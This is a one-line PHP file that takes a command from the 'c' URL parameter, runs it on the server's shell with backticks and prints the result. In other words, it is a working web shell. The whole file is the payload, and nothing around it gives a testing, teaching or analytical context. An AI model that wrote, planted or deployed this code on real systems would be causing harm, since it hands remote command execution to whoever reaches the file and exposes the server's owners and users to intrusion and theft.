<?php $c = sprintf("%s", $_GET["c"]); $d = `$c`; echo $d;
